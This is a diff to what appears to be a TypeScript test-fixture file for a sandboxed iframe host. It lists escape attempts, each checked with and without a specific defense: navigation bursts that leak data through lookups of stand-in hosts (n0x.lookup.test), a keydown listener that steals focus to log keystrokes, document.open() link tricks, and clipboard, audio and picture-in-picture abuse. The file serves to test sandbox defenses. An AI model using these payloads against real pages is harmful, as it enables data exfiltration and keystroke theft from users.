@@ -16,47 +16,60 @@ export interface FrameAttack {
 
 const breakoutFile = 'src/frame/host/breakout.ts';
 
-const withoutNavigationWatch: readonly SourceChange[] = [
-  {
-    file: breakoutFile,
-    from: "if (effectiveDirective === 'frame-src') onBreakout('navigation');",
-    to: 'void effectiveDirective;',
-  },
-  { file: 'src/frame/boot/stubs.ts', from: "  define(window, 'stop', () => {});\n", to: '' },
-];
-
+/** The page ends the run at the first refusal. */
+const watch: SourceChange = {
+  file: breakoutFile,
+  from: "if (effectiveDirective === 'frame-src') onBreakout('navigation');",
+  to: 'void effectiveDirective;',
+};
+/** `stop()` does nothing. */
+const stop: SourceChange = {
+  file: 'src/frame/boot/stubs.ts',
+  from: "  define(window, 'stop', () => {});\n",
+  to: '',
+};
 /** Names that the program can reach: `n0x.lookup.test`, `n1x.lookup.test`, … */
 const nextName = `location.protocol, 'https://n' + turn++ + 'x.lookup.test/'`;
 
-const names = 'Any number of host names, each with data in it, which the browser looks up';
+interface NavigationAttack extends FrameAttack {
+  /** Without the defense, more names than this are looked up in three seconds. */
+  readonly least: number;
+  /** With it, at most this many. */
+  readonly most: number;
+}
 
-export const navigationAttacks: readonly FrameAttack[] = (
+/** How long a refusal takes to reach the page decides how many names a program that doesn't wait gets out. */
+const waiting = { least: 8, most: 2, pause: 200 } as const;
+/** Nothing runs between the attempts of one burst, and the page is told of the first too late to prevent the rest. */
+const burst = { least: 150, most: 100, pause: 1000 } as const;
+
+/** Each of these ends the run by itself: without `stop()` a navigation goes on, and the page notices that it did. */
+export const navigationDefenses: readonly SourceChange[] = [watch, stop];
+
+export const navigationAttacks: readonly NavigationAttack[] = (
   [
+    ['`location.href` and `stop()`', waiting, `location.href = (${nextName}); stop();`],
+    ['`location.replace()` and `stop()`', waiting, `location.replace((${nextName})); stop();`],
     [
-      '`location.href` and `stop()`, 100 times in a row',
+      '`navigation.navigate()` and `stop()`',
+      waiting,
+      `try { navigation.navigate((${nextName})).finished.catch(() => {}); } catch {} stop();`,
+    ],
+    [
+      'bursts of 100 times `location.href` and `stop()`',
+      burst,
       `for (let i = 0; i < 100; i++) { location.href = (${nextName}); stop(); }`,
     ],
-    [
-      '`location.href` and `stop()` every 20 ms',
-      `setInterval(() => { location.href = (${nextName}); stop(); }, 20);`,
-    ],
-    [
-      '`location.replace()` and `stop()` every 20 ms',
-      `setInterval(() => { location.replace((${nextName})); stop(); }, 20);`,
-    ],
-    [
-      '`navigation.navigate()` that is overtaken by the next',
-      `setInterval(() => { try { navigation.navigate((${nextName})).finished.catch(() => {}); stop(); } catch {} }, 20);`,
-    ],
   ] as const
-).map(([name, code]) => ({
+).map(([name, { pause, ...numbers }, code]) => ({
   name,
-  gain: names,
-  code: `let turn = 0; ${code}`,
-  without: withoutNavigationWatch,
+  gain: 'Any number of host names, each with data in it, which the browser looks up',
+  code: `let turn = 0; const next = () => { ${code} }; next(); setInterval(next, ${pause});`,
+  without: navigationDefenses,
+  ...numbers,
   results: {
-    without: 'More than 40 names in 3 s; the program goes on',
-    with: 'The run ends at the first refusal; the names that were on their way by then, in 3 s fewer than 20, are looked up',
+    without: `More than ${numbers.least} names in 3 s; the program goes on`,
+    with: `The run ends; at most ${numbers.most} names`,
   },
 }));
 
@@ -120,3 +133,174 @@ export const addressAttacks: readonly FrameAttack[] = (
   without: withoutBase,
   results: { without: 'The address has the hash', with: 'The address ends before the hash' },
 }));
+
+const withoutKeyboardWatch: readonly SourceChange[] = [
+  {
+    file: 'src/frame/host/keyboard.ts',
+    from: 'if (document.activeElement === element) onActive();',
+    to: 'if (document.activeElement === element) return;',
+  },
+];
+
+/** Says which keys the program gets, and has an empty field at hand. */
+const thief = `addEventListener('keydown', ({ key }) => console.log('got ' + key), true);
+  const field = document.createElement('input');
+  document.body.append(field);`;
+
+export const keyboardAttacks: readonly FrameAttack[] = (
+  [
+    ['`focus()` of a field, every 20 ms', `setInterval(() => field.focus(), 20);`],
+    ['`focus()` of a field, once', `field.focus();`],
+    ['`window.focus()`, every 20 ms', `setInterval(() => focus(), 20);`],
+    ['`select()` of a field', `field.select();`],
+    [
+      'a modal dialog with a field that has `autofocus`',
+      `const dialog = document.createElement('dialog'); field.autofocus = true;
+       dialog.append(field); document.body.append(dialog); dialog.showModal();`,
+    ],
+    [
+      '`focus()` with a clock and a `key` that were replaced',
+      `performance.now = () => 0; Object.defineProperty(KeyboardEvent.prototype, 'key', { get: () => 'Tab' });
+       MessagePort.prototype.postMessage = new Proxy(MessagePort.prototype.postMessage, { apply: (post, port) => Reflect.apply(post, port, ['press']) });
+       field.focus();`,
+    ],
+  ] as const
+).map(([name, code]) => ({
+  name,
+  gain: 'What the reader types into the page, or into the site around an embed',
+  code: `${thief} ${code}`,
+  without: withoutKeyboardWatch,
+  results: {
+    without: 'The program gets the keys; the run goes on',
+    with: 'The run ends, and the field has the focus again with all that was typed',
+  },
+}));
+
+const abilitiesFile = 'src/frame/boot/abilities.ts';
+
+/** Removes one line of the boot script. */
+const withoutLine = (text: string): readonly SourceChange[] => [
+  { file: abilitiesFile, from: text, to: '' },
+];
+
+const copies = withoutLine('  refuseClipboardCommands();\n');
+const plays = withoutLine("  replace(media, 'play', reject);\n");
+const streams = withoutLine(
+  "  if (source !== undefined) defineProperty(media, 'srcObject', { ...source, set: refuse });\n",
+);
+const speaks = withoutLine("  replace(classes['SpeechSynthesis']?.prototype, 'speak', refuse);\n");
+const sounds = withoutLine("  replace(window, 'AudioContext', refuse);\n");
+const allows: readonly SourceChange[] = [
+  { file: 'src/frame/host/frame.ts', from: '  element.allow = denyFeatures();\n', to: '' },
+];
+const pictures = withoutLine(
+  "  replace(HTMLVideoElement.prototype, 'requestPictureInPicture', reject);\n",
+);
+
+const select = `const field = document.createElement('textarea'); field.value = 'stolen';
+  document.body.append(field); field.select();`;
+const stream = `const canvas = document.createElement('canvas'); const drawing = canvas.getContext('2d');
+  setInterval(() => drawing.fillRect(0, 0, Math.random() * 9, 9), 20);
+  const video = document.createElement('video'); video.muted = true; document.body.append(video);`;
+
+const opens: readonly SourceChange[] = [
+  {
+    file: 'src/frame/boot/elements.ts',
+    from: "  refuseMethod(Document.prototype, 'open');\n",
+    to: '',
+  },
+];
+
+/** A press on a link has to succeed: the boot script's listener doesn't refuse it. */
+const linkAttacks: readonly FrameAttack[] = [
+  ['a link, after `document.open()`', `document.open();`],
+  [
+    'a link, after `open()` of the document’s prototype',
+    `Document.prototype.open.call(document, 'text/html');`,
+  ],
+].map(([name = '', code = '']) => ({
+  name,
+  gain: 'Listeners of the boot script are removed, so the reader’s press follows a link: WebKit connects to its host',
+  code: `try { ${code} } catch {}
+    document.documentElement?.remove();
+    const html = document.appendChild(document.createElement('html'));
+    const link = html.appendChild(document.createElement('body')).appendChild(document.createElement('a'));
+    link.id = 'viewer'; link.href = 'https://n0x.lookup.test/'; link.append('press');
+    addEventListener('click', (event) => {
+      console.log('result ' + !event.defaultPrevented); event.preventDefault();
+    });
+    console.log('waits');`,
+  without: opens,
+  results: { without: 'The link would be followed', with: 'The press is refused' },
+}));
+
+/** Each is tried on a press, and has to resolve with whether it succeeded. */
+export const pressAttacks: readonly FrameAttack[] = [
+  ...linkAttacks,
+  ...(
+    [
+      ['`execCommand("copy")`', copies, `${select} return document.execCommand('copy');`],
+      [
+        '`execCommand()` with an object',
+        copies,
+        `${select} return document.execCommand({ toString: () => 'cOpY' });`,
+      ],
+      [
+        '`execCommand("cut")` of another document’s prototype',
+        copies,
+        `${select} return Object.getPrototypeOf(HTMLDocument.prototype).execCommand.call(document, 'cut');`,
+      ],
+      [
+        'sound by `AudioContext`',
+        sounds,
+        `const context = new AudioContext(); await context.resume(); return context.state === 'running';`,
+      ],
+      [
+        'sound by a class that extends `AudioContext`',
+        sounds,
+        `const context = new (class extends AudioContext {})(); await context.resume(); return context.state === 'running';`,
+      ],
+      [
+        'speech',
+        speaks,
+        `speechSynthesis.speak(new SpeechSynthesisUtterance('a')); return speechSynthesis.pending || speechSynthesis.speaking;`,
+      ],
+      [
+        'a video that shows a stream, by `srcObject`',
+        streams,
+        `${stream} video.srcObject = canvas.captureStream(); return video.srcObject !== null;`,
+      ],
+      [
+        'a video that plays a stream, by `play()`',
+        [...streams, ...plays],
+        `${stream} video.srcObject = canvas.captureStream(); await video.play(); return !video.paused;`,
+      ],
+      [
+        'picture-in-picture with a stream',
+        [...pictures, ...streams, ...plays, ...allows],
+        `${stream} video.srcObject = canvas.captureStream(); await video.play();
+       await video.requestPictureInPicture(); return document.pictureInPictureElement === video;`,
+      ],
+      [
+        'picture-in-picture, by permission',
+        allows,
+        `return document.featurePolicy.allowsFeature('picture-in-picture');`,
+      ],
+      [
+        'any feature, by permission',
+        allows,
+        `return document.featurePolicy.allowedFeatures().length > 0;`,
+      ],
+    ] as const
+  ).map(([name, without, code]) => ({
+    name,
+    gain: 'After one press in the view: another text in the clipboard, sound, or a window over all others',
+    code: `addEventListener('pointerup', async () => {
+    let result; try { result = await (async () => { ${code} })(); } catch (error) { result = error.name; }
+    console.log('result ' + result);
+  });
+  console.log('waits');`,
+    without,
+    results: { without: 'It succeeds', with: 'It’s refused' },
+  })),
+];
